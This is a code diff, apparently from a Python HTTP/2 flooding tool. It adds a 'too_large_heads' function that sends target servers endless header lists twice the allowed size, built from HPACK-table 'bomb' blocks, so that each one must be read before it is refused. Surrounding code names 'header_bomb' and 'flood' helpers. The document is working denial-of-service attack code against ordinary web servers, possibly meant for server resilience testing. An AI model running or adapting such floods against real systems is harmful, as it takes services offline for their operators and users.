@@ -170,6 +170,20 @@ def header_bomb(target, until):
     return flood(target, until, plant_and_hold, connections=BOMB_CONNECTIONS, settings=no_window)
 
 
+def too_large_heads(target, until):
+    """Heads of twice the size that is allowed, without end: each must be read before it can be refused."""
+
+    def strike(connection, tally):
+        limit = connection.setting(http2.SETTING_MAX_HEADER_LIST_SIZE, USUAL_HEADER_LIST)
+        first, others = bomb_blocks(target, 2 * limit)
+        connection.send(http2.headers(connection.new_stream(), first), until)
+        while connection.send(http2.headers(connection.new_stream(), others), until, read_meanwhile=True):
+            tally.strike(1)
+            connection.read()
+
+    return flood(target, until, strike, connections=BOMB_CONNECTIONS)
+
+
 def bomb_blocks(target, list_size):
     """The header block that fills the dynamic table's newest entry and repeats it, and the one that only repeats it."""
     request = [(":method", "POST"), (":scheme", "https"), (":authority", target.host), (":path", ORIGIN_WORK)]
